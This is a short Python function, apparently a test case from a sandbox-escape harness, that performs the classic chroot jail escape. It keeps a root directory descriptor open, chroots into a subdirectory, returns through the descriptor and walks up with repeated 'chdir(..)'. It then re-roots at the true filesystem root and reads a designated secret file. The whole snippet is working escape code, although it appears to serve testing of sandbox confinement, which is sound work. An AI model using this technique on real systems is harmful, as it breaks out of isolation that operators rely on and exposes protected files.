# Out of a root by making another one and walking up from what was left open.
def attack(arena):
    import json

    here = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot(os.path.dirname(json.__file__))
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    with open(arena["secret_file"], "rb") as file:
        return reveals(file.read(), arena)
